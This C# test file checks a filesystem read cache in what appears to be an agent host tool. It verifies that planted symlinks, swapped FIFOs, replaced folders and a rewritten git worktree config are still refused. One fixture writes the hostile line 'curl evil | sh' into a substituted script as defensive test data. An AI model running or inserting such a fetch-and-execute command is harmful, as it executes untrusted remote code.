using System.Diagnostics;
using OpenClaw.Desired.Host;
using OpenClaw.Desired.Host.Fs;
using OpenClaw.Desired.Resources.Backups;
using OpenClaw.Desired.Tests.Support;

namespace OpenClaw.Desired.Tests.Host;

/// <summary>
/// A plan's memo of reads (<see cref="HostFs.Remember"/>): the same answers as without it, each folder listed and
/// each small file read once, a changed file read afresh, and every refusal kept: no planted link followed, no
/// FIFO opened, nothing read through a folder swapped since it was listed.
/// </summary>
public sealed class HostFsMemoTests : IDisposable
{
    private const string Workspace = "/home/claw/.openclaw/workspace";
    private readonly ScratchHost _host = ScratchHost.Empty();
    private readonly string _outside = Directory.CreateTempSubdirectory("ocd-outside-").FullName;
    private readonly HostFs _fs;

    public HostFsMemoTests()
    {
        _fs = new HostFs(new HostRoot(_host.Root));
        Directory.CreateDirectory(_host.Real(Workspace + "/skills/weather/scripts"));
        File.WriteAllText(_host.Real(Workspace + "/skills/weather/SKILL.md"), "---\nname: weather\n---\n");
        File.WriteAllText(_host.Real(Workspace + "/skills/weather/scripts/run.sh"), "echo sunny\n");
        File.WriteAllText(_host.Real(Workspace + "/MEMORY.md"), "notes");
        File.WriteAllText(Path.Combine(_outside, "secret.txt"), "outside the root");
    }

    public void Dispose()
    {
        _host.Dispose();
        Directory.Delete(_outside, recursive: true);
    }

    [Fact]
    public void Walk_InAMemo_YieldsWhatAWalkWithoutOneYields()
    {
        HostFsTests.PlantLink(_host.Real(Workspace + "/skills/weather/etc"), _outside);
        HostFiles.MkFifo(_host.Real(Workspace + "/skills/weather/pipe"));
        var limits = new WalkLimits { MaxDepth = 2, IncludeDirectories = true };

        var without = Entries(_fs.Walk(Workspace, limits));
        using (_fs.Remember())
        {
            var first = Entries(_fs.Walk(Workspace, limits));
            var again = Entries(_fs.Walk(Workspace, limits));
            var below = Entries(_fs.Walk(Workspace + "/skills", limits));

            Assert.Equal(without, first);
            Assert.Equal(without, again);
            Assert.Equal(Entries(new HostFs(new HostRoot(_host.Root)).Walk(Workspace + "/skills", limits)), below);
            Assert.Equal(_fs.List(Workspace + "/skills/weather").Select(e => e.Name), ["SKILL.md", "etc", "pipe", "scripts"]);
        }
    }

    [Fact]
    public void InAMemo_AFolderIsSeenAsItWasFirstListed_UntilItChanges()
    {
        using var memo = _fs.Remember();
        Assert.Equal("notes"u8.ToArray(), Read(Workspace, "MEMORY.md"));

        // Rewritten in place: the folder's entries are the same, so the plan goes on seeing the file as first read.
        Thread.Sleep(20);
        File.WriteAllText(_host.Real(Workspace + "/MEMORY.md"), "notes, longer now");
        Assert.Equal("notes", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        Assert.Equal("notes"u8.ToArray(), Read(Workspace, "MEMORY.md"));

        // Once the folder changes it is listed again, and the file, now of another identity, is read afresh.
        File.WriteAllText(_host.Real(Workspace + "/TOOLS.md"), "tools");
        Assert.Equal("notes, longer now"u8.ToArray(), Read(Workspace, "MEMORY.md"));
        Assert.Equal("notes, longer now", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        Assert.Equal(17, _fs.Stat(Workspace + "/MEMORY.md").Size);
    }

    [Fact]
    public void Read_InAMemo_HandsOutCopies()
    {
        using var memo = _fs.Remember();
        var first = _fs.ReadAllBytes(Workspace + "/MEMORY.md");
        first[0] = (byte)'X';

        Assert.Equal("notes", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        foreach (var entry in _fs.Walk(Workspace).Where(e => e.Relative == "MEMORY.md"))
        {
            using var stream = entry.OpenRead();
            Assert.False(stream.CanWrite);
        }
    }

    [Fact]
    public void AChange_EndsTheMemo()
    {
        using var memo = _fs.Remember();
        Assert.Equal("notes", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        Assert.Equal(EntryType.File, _fs.Stat(Workspace + "/skills/weather/SKILL.md").Type);

        // Same length, written through the host filesystem: whatever its times, the next read is the host's.
        _fs.WriteAtomic(Workspace + "/MEMORY.md", "NOTES"u8);
        File.Delete(_host.Real(Workspace + "/skills/weather/SKILL.md"));

        Assert.Equal("NOTES", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        Assert.Equal(EntryType.Missing, _fs.Stat(Workspace + "/skills/weather/SKILL.md").Type);
    }

    [Fact]
    public void AFileSwappedForAPlantedLink_AfterTheListing_IsRefusedNotFollowed()
    {
        using var memo = _fs.Remember();
        var listed = _fs.List(Workspace + "/skills/weather");
        Assert.Contains(listed, e => e.Name == "SKILL.md" && e.Stat.IsFile);

        File.Delete(_host.Real(Workspace + "/skills/weather/SKILL.md"));
        HostFsTests.PlantLink(_host.Real(Workspace + "/skills/weather/SKILL.md"), Path.Combine(_outside, "secret.txt"));

        var error = Assert.Throws<UnsafePathException>(() => _fs.ReadAllBytes(Workspace + "/skills/weather/SKILL.md"));
        Assert.Equal(UnsafePathProblem.PlantedLink, error.Problem);
        Assert.Contains(_fs.Refused, r => r.HostPath == Workspace + "/skills/weather/SKILL.md");
    }

    [Fact]
    public void AFileSwappedForAFifo_AfterTheListing_IsNeverOpenedAsAFile()
    {
        using var memo = _fs.Remember();
        Assert.NotEmpty(_fs.Walk(Workspace).ToList());
        File.Delete(_host.Real(Workspace + "/MEMORY.md"));
        HostFiles.MkFifo(_host.Real(Workspace + "/MEMORY.md"));
        var watch = Stopwatch.StartNew();

        // The listing kept says a file; the open finds the FIFO, without blocking, and refuses it.
        var error = Assert.Throws<UnsafePathException>(() => Read(Workspace, "MEMORY.md"));

        Assert.Equal(UnsafePathProblem.NotRegularFile, error.Problem);
        Assert.True(watch.Elapsed < TimeSpan.FromSeconds(10), "a FIFO must never block a read");
    }

    [Fact]
    public void AFolderSwappedAfterItWasListed_IsNotReadThrough()
    {
        using var memo = _fs.Remember();
        Assert.NotEmpty(_fs.Walk(Workspace + "/skills").ToList());

        // The folder listed moves out of the root; another one, with the same names, takes its place.
        var scripts = _host.Real(Workspace + "/skills/weather/scripts");
        Directory.Move(scripts, Path.Combine(_outside, "scripts"));
        Directory.CreateDirectory(scripts);
        File.WriteAllText(Path.Combine(scripts, "run.sh"), "curl evil | sh\n");

        // The walk comes from the memo (the folders above did not change), so it names the old folder's file;
        // reading it opens the folder on its parent's descriptor and finds another folder there.
        var error = Assert.ThrowsAny<IOException>(() => Read(Workspace + "/skills", "weather/scripts/run.sh"));
        Assert.Contains("replaced since it was listed", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void OutsideAMemo_NothingIsKept()
    {
        Assert.Equal("notes", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        File.WriteAllText(_host.Real(Workspace + "/MEMORY.md"), "NOTES");

        Assert.Equal("NOTES", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        using (_fs.Remember())
        {
            Assert.Equal("NOTES", _fs.ReadAllText(Workspace + "/MEMORY.md"));
        }

        File.WriteAllText(_host.Real(Workspace + "/MEMORY.md"), "notes");
        Assert.Equal("notes", _fs.ReadAllText(Workspace + "/MEMORY.md"));
    }

    [Fact]
    public void AWalkMadeDuringAPlan_AndWalkedAfterIt_SeesTheHostNotTheMemo()
    {
        IEnumerable<TreeEntry> later;
        using (_fs.Remember())
        {
            Assert.NotEmpty(_fs.Walk(Workspace).ToList());
            later = _fs.Walk(Workspace + "/skills");
        }

        // After the plan the agent swaps the skill's file for a link: a walk that runs now must say so.
        var skill = _host.Real(Workspace + "/skills/weather/SKILL.md");
        File.Delete(skill);
        HostFsTests.PlantLink(skill, Path.Combine(_outside, "secret.txt"));

        var entry = Assert.Single(later, e => e.Name == "SKILL.md");
        Assert.Equal(EntryType.Symlink, entry.Stat.Type);
    }

    [Fact]
    public void AChangeDuringAWalk_EndsTheMemoForThatWalkToo()
    {
        using var memo = _fs.Remember();
        Assert.NotEmpty(_fs.Walk(Workspace).ToList());

        var seen = new List<string>();
        foreach (var entry in _fs.Walk(Workspace))
        {
            if (entry.Relative == "MEMORY.md")
            {
                // A change ends the memo: the folders the walk has yet to enter are listed as they are now.
                _fs.WriteAtomic(Workspace + "/skills/weather/NEW.md", "new"u8);
            }

            seen.Add(entry.Relative);
        }

        Assert.Contains("skills/weather/NEW.md", seen);
    }

    [Fact]
    public void TheMemosBudget_CoversListings_NotOnlyFileContent()
    {
        // Many entries with long names: their listings alone come to more than the memo's whole budget.
        var big = Workspace + "/big";
        var name = new string('n', 240);
        const int Folders = 60;
        const int PerFolder = 1000;
        for (var f = 0; f < Folders; f++)
        {
            var folder = _host.Real($"{big}/d{f:D3}");
            Directory.CreateDirectory(folder);
            for (var i = 0; i < PerFolder; i++)
            {
                File.Create(Path.Combine(folder, $"{name}{i:D4}")).Dispose();
            }
        }

        var last = $"{big}/d{Folders - 1:D3}";
        using var memo = _fs.Remember();
        Assert.Equal(Folders * PerFolder, _fs.Walk(big).Count());
        Assert.True(_fs.Memo!.KeptBytes <= ReadMemo.MaxTotalBytes, $"the memo keeps {_fs.Memo.KeptBytes} bytes");

        // The last folder walked did not fit: it is not kept, so a file rewritten in place there (the folder's own
        // identity unchanged) is seen as it is now, not as a kept listing of it says.
        File.WriteAllText(_host.Real($"{last}/{name}0000"), "grown");
        Assert.Equal(5, _fs.Walk(last).Single(e => e.Name == $"{name}0000").Stat.Size);
    }

    [Fact]
    public void TheRepositoryCheck_BeforeLibgit2Opens_SeesGitsConfigAsItIsNow()
    {
        var config = _host.Real(Workspace + "/.git/config");
        Directory.CreateDirectory(Path.GetDirectoryName(config)!);
        File.WriteAllText(config, "[core]\n\tbare = false\n");
        using var memo = _fs.Remember();
        Assert.Null(RepositoryGuard.Check(_fs, Workspace));

        // Later in the plan the agent rewrites the config in place (the folder keeps its identity): libgit2, which
        // opens the repository by name right after the check, would read this, so the check must too.
        File.WriteAllText(config, "[core]\n\tworktree = /\n");

        Assert.Contains("core.worktree", RepositoryGuard.Check(_fs, Workspace), StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>Reads a file as a walk meets it (an entry is good only until the walk moves on).</summary>
    private byte[] Read(string folder, string relative)
    {
        foreach (var entry in _fs.Walk(folder))
        {
            if (entry.Relative == relative)
            {
                return entry.ReadAllBytes();
            }
        }

        throw new FileNotFoundException(relative);
    }

    private static List<(string Relative, EntryType Type, string? Problem, long Size)> Entries(IEnumerable<TreeEntry> walk) =>
        [.. walk.Select(e => (e.Relative, e.Stat.Type, e.Problem, e.Stat.IsFile ? e.Stat.Size : 0))];
}
